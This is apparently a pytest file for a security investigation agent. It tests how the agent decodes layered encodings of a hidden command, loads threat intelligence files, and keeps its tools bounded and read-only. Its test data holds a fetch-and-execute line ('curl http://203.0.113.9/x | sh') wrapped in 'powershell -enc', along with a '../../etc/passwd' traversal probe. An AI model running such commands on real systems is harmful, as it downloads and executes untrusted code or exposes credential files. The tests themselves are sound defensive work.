"""Decoding, threat intelligence and tools: what they answer, and what they refuse."""

import base64
import gzip
import json

import pytest

from tests.agent.staging import ATTACKER, backdoor
from watchfloor.agent.case import Alert
from watchfloor.agent.decoding import MOST_BYTES, decode
from watchfloor.agent.growing import Growth
from watchfloor.agent.intel import load
from watchfloor.agent.investigating import Investigator
from watchfloor.agent.tools import Budget, BudgetSpentError, Toolbox, ToolError
from watchfloor.base.errors import InputError
from watchfloor.rules.shipped import texts

HIDDEN = "curl http://203.0.113.9/x | sh"


@pytest.mark.parametrize(
    ("text", "how"),
    [
        (base64.b64encode(HIDDEN.encode()).decode(), "base64"),
        (base64.b64encode(HIDDEN.encode("utf-16-le")).decode(), "PowerShell"),
        (base64.b64encode(gzip.compress(HIDDEN.encode())).decode(), "gzip"),
        (HIDDEN.encode().hex(), "hex"),
        (base64.b64encode(bytes(b ^ 0x5A for b in HIDDEN.encode())).decode(), "XOR 0x5a"),
        ("".join(f"\\x{b:02x}" for b in HIDDEN.encode()), "hex"),
    ],
)
def test_what_is_hidden_is_found_under_its_layers(text, how):
    layers = decode(f"powershell -enc {text} tail")
    assert how in layers[-1].how and layers[-1].text == HIDDEN


def test_layers_under_layers_end_and_a_bomb_stays_small():
    text = HIDDEN
    for _ in range(12):
        text = base64.b64encode(text.encode()).decode()
    assert len(decode(text)) <= 4
    bomb = base64.b64encode(gzip.compress(b"A" * 50_000_000)).decode()
    assert all(len(layer.text) <= MOST_BYTES for layer in decode(bomb))
    assert decode("an ordinary sentence with /usr/bin/paths and 12345678901234567890 in it") == []


def test_stix_misp_and_csv_are_read_and_damaged_files_named(tmp_path):
    stix = {
        "type": "bundle",
        "objects": [{"type": "indicator", "name": "bad", "pattern": f"[ipv4-addr:value = '{ATTACKER}']"}],
    }
    misp = {
        "Event": {
            "info": "campaign",
            "Attribute": [{"value": "evil.example|10.9.9.9"}],
            "Object": [{"Attribute": [{"value": "ff" * 16}]}],
        }
    }
    (tmp_path / "a.json").write_text(json.dumps(stix))
    (tmp_path / "b.json").write_text(json.dumps(misp))
    (tmp_path / "c.csv").write_text("indicator,label\nworse.example,ransom\n")
    (tmp_path / "d.json").write_text('{"type": "bundle", ')
    (tmp_path / "e.json").write_text("[" * 100_000)
    (tmp_path / "f.csv").write_text("")
    intel = load(tmp_path)
    assert {
        intel.look_up(v) is not None for v in (ATTACKER, "EVIL.example", "10.9.9.9", "ff" * 16, "worse.example")
    } == {True}
    assert [fault.split(":")[0] for fault in intel.faults] == ["d.json", "e.json", "f.csv"]
    with pytest.raises(InputError):
        load(tmp_path / "d.json")


def test_what_intelligence_knows_stands_beside_the_indicator(tmp_path):
    (tmp_path / "list.csv").write_text(f"indicator,label\n{ATTACKER},campaign\n")
    stage, ids = backdoor()
    found = Investigator(stage.index(), intel=load(tmp_path)).investigate(Alert("c", (ids["call"],)))
    assert [i["intel"]["label"] for i in found.indicators if "intel" in i] == ["campaign"]


def box(**kept):
    stage, _ = backdoor()
    index = stage.index()
    return Toolbox(index, Growth(index), **kept)


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("rm", {}),
        ("events", {}),
        ("events", {"process": "1"}),
        ("events", {"process": 1, "more": 2}),
        ("decode", {"text": 3}),
    ],
)
def test_a_call_that_is_none_is_refused(name, arguments):
    with pytest.raises(ToolError):
        box().call(name, **arguments)


def test_tools_answer_within_bounds_and_stand_in_the_transcript():
    tools = box()
    assert tools.call("events", process=10**9) == [] and tools.call("lineage", process=-5) == []
    assert tools.call("rarity", trace=f"address:{ATTACKER}")["processes"] == 3
    assert tools.call("touched", trace="path:/nowhere") == []
    assert [t["tool"] for t in tools.transcript] == ["events", "lineage", "rarity", "touched"]
    assert not any(tool.writes for tool in tools.tools().values())


def test_what_a_rule_looks_for_is_told_in_its_own_words():
    tools = box(rules=texts())
    told = tools.call("rule", rule_id="cfd80e90-7348-4e98-9526-425d47cd0eed")
    assert told["title"] == "Password Hashes Read by a Tool" and "/etc/shadow" in told["text"]
    assert tools.call("rule", rule_id="../../etc/passwd") == {}


def test_a_spent_budget_ends_the_case_and_is_said():
    with pytest.raises(BudgetSpentError):
        box(budget=Budget(calls=0)).call("film", process=0)
    stage, ids = backdoor()
    found = Investigator(stage.index(), budget=Budget(calls=1)).investigate(Alert("c", (ids["call"],)))
    assert any("budget" in question for question in found.open_questions)
